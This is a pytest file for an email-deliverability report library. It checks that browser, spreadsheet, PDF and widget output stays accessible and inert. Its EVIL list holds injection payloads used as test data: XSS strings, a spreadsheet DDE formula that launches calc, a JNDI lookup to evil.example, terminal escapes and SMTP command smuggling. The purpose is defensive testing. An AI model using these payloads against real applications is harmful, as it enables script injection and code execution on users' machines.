"""The report in a real browser: on screen, phone and paper, for people who cannot see it, and against hostile texts."""

from __future__ import annotations

import re
import subprocess
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from ipywidgets import Widget

import deliverkit as dk
from deliverkit.classify import classify
from deliverkit.report import Report
from deliverkit.schema import PROBES

DATA = Path(__file__).resolve().parents[1] / "data"
MARK = "zq{}zq"  # stands in every hostile text, so that it can be found again
EVIL = [
    "<script>alert({m})</script>", "<img src=x onerror=alert({m})>", "\"><svg onload=alert('{m}')>",
    "</title>{m}<h1>", "<iframe src=https://evil.example/{m}>", "</td></table>{m}<form action=//evil.example>",
    "' onmouseover='alert({m})", "<a href=javascript:alert({m})>{m}</a>", "<style>*{{display:none}}{m}</style>",
    "]]><!--{m}", "&lt;{m}&#60;script&#62;", "{{{{ 7*7 }}}}{m}{{% raw %}}", "<base href=//evil.example>{m}",
    "<meta http-equiv=refresh content=0>{m}", "</script>{m}", "=1+1+{m}", "+cmd|' /C calc'!{m}", "-2+3+{m}",
    "@SUM(1){m}", "\t=1+1 {m}", "\r\n=HYPERLINK(\"http://evil.example\";{m})", "＝1+{m}", "https://evil.example/{m}",
    "mailto:{m}", "\x1b[31m{m}\x1b[0m", "\x1b]0;{m}\x07", "\x00\x01\x08{m}", "\x9b31m{m}", "\u202e{m}gnp.exe",
    "\u2066\u2067\u2069{m}\u200f\u200e", "\ufeff{m}\u200b\u2060", "\u061c{m}", "\uffff{m}",
    "#sys.inputs {m}", "#panic(\"{m}\")", "$ {m} $ sum_(i)", "`raw {m}`", "*{m}* _x_ = head",
    "#import \"x.typ\": {m}", "\\u{{41}} \\ {m}", "@ref-{m}", "<label-{m}>", "#{{ {m} }}", "// {m} /* ",
    "~{m}~---...", "株式会社 {m}", "😀👩‍👩‍👧 {m}", "שלום {m} مرحبا", "e" + "\u0301" * 40 + "{m}", "{m}" + "x" * 50_000,
    "{m} " + "word " * 10_000, "{m}" + "<b>" * 5_000, "{m}" + "]" * 500, "{m}'\"\\';--", "..\\..\\{m}", "%s%n%x{m}",
    "${{jndi:ldap://evil.example/{m}}}", "{m}\n.\r\nQUIT\r\n",
]  # fmt: skip


def hostile() -> list[str]:
    """100 texts: every pattern at least once, each with a number of its own."""
    return [EVIL[i % len(EVIL)].format(m=MARK.format(i)) for i in range(100)]


def frame(texts: list[str]) -> pd.DataFrame:
    """Hostile banners, bounce texts, names of networks, hosts, clients and campaigns."""
    common = {"time": "2026-03-01T09:00:00Z"}
    probes = [
        {**common, "origin": "probe", "vantage": text, "host": text, "operator": text, "port": 25 + 562 * (i % 2),
         "outcome": "failed", "verdict": "rejected", "step": "connect", "failure": text, "banner": text, "text": text}
        for i, text in enumerate(texts)
    ]  # fmt: skip
    mail = [
        {**common, "origin": "log", "client": text, "campaign": text, "recipient": f"r{i}@x.example", "host": text,
         "vantage": text, "outcome": "failed", "status_code": "5.1.1", "text": text, "message_id": f"<{i}@x.example>",
         "step": "relay", "port": 587, "queue_id": text, "operator": text}
        for i, text in enumerate(texts)
    ]  # fmt: skip
    made = classify(probes + mail, PROBES)
    kinds = ["connection", "relay_or_login", "reputation_block", "policy_block", "tls", "rate_limited", "unknown"]
    made["category"] = [kinds[i % len(kinds)] for i in range(len(made))]  # so that many texts are the example of one
    return made.assign(blocked=made["origin"].eq("probe"))


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = dk.sample()
    early = data.assign(time=data["time"] - pd.Timedelta(days=7))
    made = dk.report(data, provider="SendGrid", before=early, date="2026-11-25")
    return made.save(tmp_path_factory.mktemp("report") / "report.html")


@pytest.fixture(scope="module")
def attacked() -> list[Report]:
    """Reports over 100 hostile texts, six at a time, as a page shows only the first of many."""
    texts = hostile()
    return [dk.report(frame(texts[i : i + 6]), title=texts[i], date="2026-11-25") for i in range(0, len(texts), 6)]


def visit(browser: Any, path: Path, **options: Any) -> tuple[Any, list[str], list[str]]:
    """The page, with everything it asked for and every complaint of the console or dialog."""
    page = browser.new_page(**options)
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.goto(path.as_uri())
    return page, asked, said


def test_the_report_asks_for_nothing_and_the_console_stays_quiet(browser: Any, path: Path) -> None:
    page, asked, said = visit(browser, path)
    assert asked == [path.as_uri()] and said == []
    assert page.locator("h2").count() >= 8 and page.locator("svg[role=img] title").count() == 1
    assert path.stat().st_size <= 60_000
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_axe_finds_no_serious_fault_and_nothing_overflows(browser: Any, path: Path, scheme: str, width: int) -> None:
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs axe-playwright-python")
    page, _, _ = visit(browser, path, color_scheme=scheme, viewport={"width": width, "height": 900})
    found = axe.Axe().run(page).response["violations"]
    assert [(v["id"], v["nodes"][0]["html"][:200]) for v in found if v["impact"] in ("serious", "critical")] == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    colours = page.evaluate("[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]")
    ink, paper = (sum(map(int, re.findall(r"\d+", colour))) for colour in colours)
    assert abs(ink - paper) > 450 and (paper < ink) == (scheme == "dark")
    page.close()


def test_a_printed_report_is_dark_on_white_and_cuts_no_table(browser: Any, path: Path) -> None:
    page, _, _ = visit(browser, path, color_scheme="dark", viewport={"width": 680, "height": 900})
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    wide = "[...document.querySelectorAll('.wide')].filter(box => box.scrollWidth > box.clientWidth + 1).length"
    assert page.evaluate(wide) == 0
    assert page.pdf(format="A4").startswith(b"%PDF")
    page.close()


def test_hostile_texts_run_nothing_and_break_nothing(browser: Any, attacked: list[Report], tmp_path: Path) -> None:
    seen = ""
    for made in attacked:
        assert len(made.html.encode()) <= 60_000
        page, asked, said = visit(browser, made.save(tmp_path / "evil.html"), viewport={"width": 390, "height": 900})
        page.mouse.move(200, 300)
        assert asked == [(tmp_path / "evil.html").as_uri()] and said == []
        tags = "script, img, iframe, form, base, object, embed, [onload], [onerror], [onmouseover], [href^=java]"
        assert page.locator(tags).count() == 0 and page.locator("h1, style, svg").count() == 3
        assert page.locator("h2").last.inner_text() == "Where sources disagree with the guide"
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        text = page.evaluate("document.documentElement.textContent")
        assert not re.search(
            "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff]", text
        )
        seen += text
        page.close()
    assert [i for i in range(100) if MARK.format(i) not in seen] == []


def test_hostile_texts_are_no_formula_and_stay_whole_in_a_workbook(attacked: list[Report]) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    seen: list[str] = []
    for made in attacked:
        for sheet in openpyxl.load_workbook(BytesIO(made.xlsx())):
            for row in sheet.iter_rows():
                assert not [cell.coordinate for cell in row if cell.data_type == "f" or cell.hyperlink]
                seen += [cell.value for cell in row if isinstance(cell.value, str)]
    assert max(map(len, seen)) <= 32_767
    assert [text for text in seen if text.lstrip().startswith(("=", "+", "-", "@"))] == []
    plain = [text for text in hostile() if text.isprintable() and len(text) < 30_000]
    assert len(plain) > 50 and [text for text in plain if not {text, f"'{text}"} & set(seen)] == []


def test_hostile_texts_are_text_on_paper(
    attacked: list[Report], need: Callable[[str, str], str], tmp_path: Path
) -> None:
    program, seen = need("pdftotext", "poppler-utils"), ""
    for made in attacked:
        done = subprocess.run(
            [program, made.save(tmp_path / "r.pdf"), "-"], capture_output=True, check=True, timeout=60
        )
        seen += re.sub(r"[\s\u200b]", "", done.stdout.decode())
    assert [i for i in range(100) if MARK.format(i) not in seen] == []
    for markup in ("#sys.inputs", "#panic", "$", "`raw", "#import", "<script>"):
        assert markup in seen, markup


def test_what_the_widget_and_the_advice_show_is_drawn(browser: Any, tmp_path: Path) -> None:
    probes = dk.read(DATA / "probes.csv")
    box = dk.explore_rates(probes)
    box.grouping.value = "vantage"
    shown = box.view.value + dk.choose_port("application", evidence=probes)._repr_html_()
    path = tmp_path / "shown.html"
    path.write_text(f"<meta charset=utf-8><title>shown</title>{shown}", encoding="utf-8")
    page, asked, said = visit(browser, path)
    assert asked == [path.as_uri()] and said == []
    assert page.locator("svg circle").count() == 12 == page.locator("table").first.locator("tbody tr").count()
    assert "Use port" in page.inner_text(".dk-advice") and page.locator(".dk-advice table").is_visible()
    page.close()


def views(box: Any) -> list[str]:
    """What a widget shows under every choice that it offers."""
    shown = []
    for name in ("grouping", "split", "port", "vantage", "client", "host", "fault", "operator", "row"):
        for _, value in getattr(getattr(box, name, None), "options", ()):
            getattr(box, name).value = value
            shown += [box.view.value, getattr(box, "evidence", box.view).value]
        if hasattr(box, name):
            getattr(box, name).value = getattr(box, name).options[0][1]
    return shown


def test_hostile_texts_in_widgets_run_nothing_and_are_all_shown(browser: Any, tmp_path: Path) -> None:
    texts, path = hostile(), tmp_path / "widgets.html"
    for i in range(0, len(texts), 20):
        data = frame(texts[i : i + 20])
        boxes = [make(data) for make in (dk.explore_rates, dk.explore_probes, dk.explore_bounces)]
        parts = [part for box in boxes for part in views(box)]
        body = "<hr>".join(dict.fromkeys(parts))
        path.write_text(f'<meta charset=utf-8><title>w</title><div class="dk-view">{body}</div>', encoding="utf-8")
        page, asked, said = visit(browser, path)
        assert asked == [path.as_uri()] and said == []
        foreign = "script, img, iframe, base, form, meta:not([charset]), h1, a, [onload], [onerror], [onmouseover]"
        assert page.locator(foreign).count() == 0
        text = page.evaluate("document.body.textContent")
        assert [m for m in map(MARK.format, range(i, min(i + 20, 100))) if m not in text] == []
        assert not re.search("[\x00-\x08\x1b\u202a-\u202e\u2066-\u2069\u200e\u200f]", text)
        page.close()
        Widget.close_all()
